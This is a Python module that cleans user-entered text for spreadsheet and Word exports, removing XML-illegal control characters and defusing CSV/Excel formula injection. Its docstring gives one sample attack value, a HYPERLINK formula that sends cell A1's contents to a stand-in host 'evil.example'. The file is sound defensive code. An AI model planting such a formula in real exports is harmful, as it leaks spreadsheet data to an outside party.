"""Text typed by people (citizens in public forms, staff in the admin) made safe for the files
we export: spreadsheets (.xlsx, .csv) and XML documents (.docx).

Two dangers, one rule for each, used by every export:

- **Control characters** (U+0000-U+001F other than tab and line breaks, DEL, C1) are not
  allowed in XML 1.0: openpyxl and python-docx refuse them and the download fails. Vertical
  tab and form feed (what Word's manual line and page breaks paste as) become line breaks;
  the rest are dropped, so the text stays readable.
- **Formulas**: a spreadsheet program evaluates a cell that starts with ``=``, ``+``, ``-``,
  ``@`` (or a tab or carriage return before one) as a formula, e.g.
  ``=HYPERLINK("http://evil.example/?"&A1, "点击")``. In a workbook such a value is written as
  text with Excel's hidden quote prefix (shown exactly as typed, never evaluated, not even after
  editing the cell); in CSV, which has no types, it gets a leading apostrophe.
"""

from __future__ import annotations

import re
from typing import Any

from openpyxl.cell.cell import Cell

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")

_LINE_BREAKS = re.compile(r"\r\n?|[\x0b\x0c\x85\u2028\u2029]")
# C0 except tab and line feed, DEL and C1, UTF-16 surrogates, and the two non-characters
# XML forbids.
_NOT_XML = re.compile(r"[\x00-\x08\x0e-\x1f\x7f-\x9f\ud800-\udfff\ufffe\uffff]")


def xml_text(text: str) -> str:
    """`text` without the characters XML forbids: line breaks kept (as ``\\n``), other control
    characters removed. For python-docx runs and openpyxl cells."""
    return _NOT_XML.sub("", _LINE_BREAKS.sub("\n", text))


def is_formula_like(text: str) -> bool:
    """Whether a spreadsheet program could read the text as a formula."""
    return text.startswith(FORMULA_PREFIXES)


def csv_value(value: Any) -> Any:
    """A value for a CSV writer: text cleaned and, when formula-like, led by an apostrophe.
    Numbers, dates and None pass unchanged."""
    if not isinstance(value, str):
        return value
    text = xml_text(value)
    return "'" + text if is_formula_like(value) or is_formula_like(text) else text


def csv_row(values: list[Any]) -> list[Any]:
    return [csv_value(value) for value in values]


def spreadsheet_value(value: Any) -> Any:
    """A value openpyxl accepts: text with its control characters removed. Use `as_text` on
    the cell afterwards (or `put`) so formula-like text stays text."""
    return xml_text(value) if isinstance(value, str) else value


def as_text(cell: Cell, original: Any = None) -> Cell:
    """Make a string cell plain text when it looks like a formula (openpyxl types any value
    starting with ``=`` as a formula): shown as typed, never evaluated."""
    looks_like_formula = isinstance(cell.value, str) and (
        is_formula_like(cell.value) or (isinstance(original, str) and is_formula_like(original))
    )
    if cell.data_type == "f" or looks_like_formula:
        cell.data_type = "s"
        cell.quotePrefix = True
    return cell


def put(sheet, row: int, column: int, value: Any) -> Cell:
    """Write one cell of a worksheet safely."""
    cell = sheet.cell(row=row, column=column, value=spreadsheet_value(value))
    return as_text(cell, value)


def cell(sheet, value: Any) -> Cell:
    """A safe cell of `sheet`, for ``sheet.append([...])`` of cells."""
    return as_text(Cell(sheet, value=spreadsheet_value(value)), value)


def append(sheet, values: list[Any]) -> list[Cell]:
    """Append a row safely (like ``sheet.append``); returns its cells."""
    cells = [cell(sheet, value) for value in values]
    sheet.append(cells)
    return cells
